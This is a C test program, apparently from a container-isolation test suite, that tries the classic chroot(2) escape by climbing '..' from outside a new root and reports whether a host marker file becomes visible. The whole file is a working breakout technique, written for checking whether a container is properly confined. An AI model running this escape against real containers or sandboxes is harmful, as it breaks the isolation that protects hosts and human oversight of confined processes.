/*
 * escape MARKER_PATH: try the classic chroot(2) escape, then report whether
 * MARKER_PATH, an absolute path on the host, can be seen.
 *
 * chroot(2) changes the root but not the working directory. So: chroot into a
 * fresh subdirectory while the working directory stays above it, walk ".."
 * from there (no longer stopped at our root, since we are outside it) and
 * chroot(".") wherever the walk ends. A container that was only chroot'ed
 * ends at the host's "/". One that used pivot_root(2) and unmounted the old
 * root ends at its own "/": the host's tree is no longer in its mount
 * namespace at all. See chroot(2), NOTES.
 *
 * The suites place a marker file on the host, outside the container's root,
 * and run this program inside the container:
 *   stage 03 (chroot):      exit 0, "escaped: <path> is visible"
 *   pivot_root + umount:    exit 1, "contained: <path> not found"
 *   a setup step failed:    exit 2, "escape: <call>: <error>" on stderr
 *                           (chroot needs CAP_SYS_CHROOT, mkdir a writable /)
 */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

/* Deeper than any real directory tree: ".." at "/" just stays at "/". */
#define CLIMB 1024

static const char *workdir;      /* the directory we chroot into */
static int parent_fd = -1;       /* its parent, open, so that we can remove it from anywhere */
static const char *workdir_name; /* its name inside that parent */

/* Remove our directory through the fd, which still works after any chroot. */
static void cleanup(void)
{
    if (parent_fd >= 0 && workdir_name != NULL)
        unlinkat(parent_fd, workdir_name, AT_REMOVEDIR);
}

static int setup_failed(const char *call, const char *arg)
{
    fprintf(stderr, "escape: %s %s: %s\n", call, arg, strerror(errno));
    cleanup();
    return 2;
}

/* Make workdir inside /tmp if we can, else inside /, and open its parent. */
static int make_workdir(void)
{
    /* mkdtemp(3) fills in the XXXXXX of a writable template. */
    static char in_tmp[] = "/tmp/.escape.XXXXXX", in_root[] = "/.escape.XXXXXX";
    static const struct {
        const char *parent;
        char *template;
    } places[] = {
        {"/tmp", in_tmp },
        {"/",    in_root}
    };

    for (size_t i = 0; i < sizeof(places) / sizeof(places[0]); i++) {
        workdir = mkdtemp(places[i].template);
        if (workdir == NULL)
            continue;
        workdir_name = strrchr(workdir, '/') + 1;
        parent_fd = open(places[i].parent, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
        if (parent_fd < 0) {
            int saved = errno;

            rmdir(workdir);
            workdir_name = NULL;
            errno = saved;
            return -1;
        }
        return 0;
    }
    return -1;
}

int main(int argc, char **argv)
{
    const char *marker;
    struct stat st;

    if (argc != 2 || argv[1][0] != '/') {
        fprintf(stderr, "usage: escape MARKER_PATH (an absolute path on the host)\n");
        return 2;
    }
    marker = argv[1];

    /* Start at our root, so that the working directory is surely outside workdir. */
    if (chdir("/") < 0)
        return setup_failed("chdir", "/");
    if (make_workdir() < 0)
        return setup_failed("mkdtemp", "in /tmp and /");
    if (chroot(workdir) < 0)
        return setup_failed("chroot", workdir);

    /* The working directory is above the new root, so ".." is not stopped by it. */
    for (int i = 0; i < CLIMB; i++)
        if (chdir("..") < 0)
            return setup_failed("chdir", "..");
    if (chroot(".") < 0)
        return setup_failed("chroot", ".");

    if (stat(marker, &st) == 0) {
        printf("escaped: %s is visible\n", marker);
        cleanup();
        return 0;
    }
    if (errno == ENOENT)
        printf("contained: %s not found\n", marker);
    else
        printf("contained: %s not found (%s)\n", marker, strerror(errno));
    cleanup();
    return 1;
}
